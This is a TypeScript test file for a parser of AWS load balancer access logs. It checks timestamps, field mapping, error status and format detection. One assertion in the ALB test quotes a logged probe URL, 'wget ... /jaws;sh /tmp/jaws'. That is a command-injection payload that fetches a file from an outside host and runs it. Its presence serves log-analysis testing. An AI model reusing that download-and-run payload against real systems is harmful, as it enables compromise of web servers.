import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { elb } from './elb.ts';
import { detectFormat } from './index.ts';
import { ingestLogFile, ingestText, LOGS } from './test-ingest.ts';

const ELASTIC_ALB =
  'elastic-integrations-pipeline-samples/packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log';
const PLASO_ELB = 'plaso-cloud-test-data/test_data/aws_elb_access.log';

// The `time` field of each line of the plaso sample, in UTC: ALB lines first, then Classic
// lines, then NLB lines, whose times carry no zone and are UTC.
const PLASO_TIMES = [
  '2020-01-11T16:55:20.356Z',
  '2020-01-11T16:56:05.917Z',
  '2020-01-11T16:55:32.115Z',
  '2020-01-11T16:55:32.119Z',
  '2020-01-11T16:55:34.397Z',
  '2020-01-11T16:55:34.403Z',
  '2020-01-11T16:55:34.404Z',
  '2020-01-11T16:55:34.405Z',
  '2020-01-11T16:55:34.406Z',
  '2020-01-11T16:55:34.406Z',
  '2021-05-13T23:39:43.945Z',
  '2021-05-13T23:39:44.945Z',
  '2021-05-13T23:39:45.945Z',
  '2021-05-13T23:39:46.945Z',
  '2022-04-01T08:51:42.000Z',
  '2022-12-20T02:59:40.000Z',
];

describe('Elastic Load Balancing logs', () => {
  it('reads every line of a mixed ALB, Classic and NLB log with its time', async () => {
    const { events, rejected } = await ingestLogFile(elb, PLASO_ELB);

    expect(rejected).toEqual([]);
    expect(events.map((event) => event.time)).toEqual(PLASO_TIMES);
    expect(events[0]).toMatchObject({
      source: 'aws.elb',
      category: 'network',
      class_uid: 4002,
      activity: 'Get',
      status: 'success',
      src: { ip: '192.168.1.10', port: 44325, bytes: 391 },
      dst: { ip: '192.168.1.123', port: 32869, bytes: 107999, domain: 'www.domain.name' },
      api: { operation: 'GET', request_id: 'XXXXXXX' },
    });
    expect(events[10]).toMatchObject({
      src: { ip: '192.168.131.39', port: 2817 },
      resources: [{ uid: 'my-loadbalancer', type: 'AWS::ElasticLoadBalancing::LoadBalancer' }],
      user_agent: 'curl/7.38.0',
    });
    // A Classic line whose request ELB could not read.
    expect(events[12]).toMatchObject({ activity: 'Other', status: 'unknown' });
    expect(events[14]).toMatchObject({
      class_uid: 4001,
      src: { ip: '72.21.218.154', port: 51341, bytes: 98 },
      dst: { ip: '172.100.100.185', port: 443, bytes: 246 },
      cloud: { account: '671290407336', region: 'us-east-2' },
    });
  });

  it('reads ALB access and connection logs and NLB TLS logs', async () => {
    const { events, rejected } = await ingestLogFile(elb, ELASTIC_ALB);

    expect(rejected).toEqual([]);
    expect(events).toHaveLength(10);
    expect(events[0]).toMatchObject({
      time: '2018-07-02T22:23:00.186Z',
      cloud: { account: '123456789012', region: 'us-east-2' },
      message:
        'GET http://www.example.com:80/ from 192.168.131.39 -> 200 via app/my-loadbalancer/50dc6c495c0c9188',
    });
    // The URL of a probe keeps its spaces and its classification.
    expect(events[1]?.message).toContain(
      'wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws from 67.43.156.20',
    );
    expect(events[1]?.raw.classification_reason).toBe('SpaceInUri');
    expect(events[2]).toMatchObject({ time: '2018-12-20T02:59:40.000Z', activity: 'Traffic' });
    expect(events[6]).toMatchObject({
      time: '2024-10-04T17:05:15.514Z',
      activity: 'Open',
      status: 'success',
      src: { ip: '192.168.131.39', port: 36280 },
      dst: { port: 443 },
    });
    expect(events[7]).toMatchObject({
      status: 'failure',
      status_detail: 'Failed:ClientCertUntrusted',
    });
    expect(events[8]?.api.request_id).toBe('TID_16132ed0b4112148');
    expect(events[9]?.raw.conn_trace_id).toBe('TID_00000000000000000000000000000000');
  });

  it('marks a load balancer error as a failure with its status', async () => {
    const line =
      'https 2024-03-01T10:00:00.000000Z app/web/0123 203.0.113.5:4000 - -1 -1 -1 502 - 120 0 ' +
      '"POST https://shop.example.com:443/login HTTP/1.1" "curl/8.0" - - - "Root=1-a" ' +
      '"shop.example.com" "-" 0 2024-03-01T09:59:59.000000Z "forward" "-" "-" "-" "-" "-" "-"';
    const { events, rejected } = await ingestText(elb, line);

    expect(rejected).toEqual([]);
    expect(events[0]).toMatchObject({
      activity: 'Post',
      status: 'failure',
      status_detail: '502',
      dst: { ip: null, domain: 'shop.example.com' },
    });
  });

  it('rejects lines of no known layout and reads the rest', async () => {
    const good =
      '2021-05-13T23:39:43.945958Z my-lb 192.0.2.1:2817 10.0.0.1:80 0.1 0.1 0.1 200 200 0 29 ' +
      '"GET http://a.example/ HTTP/1.1" "curl/7.38.0" - -';
    const lines = [
      'Jan 01 00:00:00 host sshd[1]: hello',
      good.replace('"curl/7.38.0"', '"curl/7.38.0'),
      '2021-05-13T23:39:43.945958Z my-lb 192.0.2.1:2817',
      good,
    ];
    const { events, rejected } = await ingestText(elb, lines.join('\n'));

    expect(events).toHaveLength(1);
    expect(rejected.map((entry) => entry.code)).toEqual([
      'unknown_layout',
      'unterminated_quote',
      'field_count',
    ]);
  });

  it('is recognised among the other formats from its first bytes', () => {
    for (const file of [ELASTIC_ALB, PLASO_ELB]) {
      const head = readFileSync(path.join(LOGS, file));
      expect(detectFormat(head, path.basename(file))?.id, file).toBe('aws.elb');
    }
  });
});
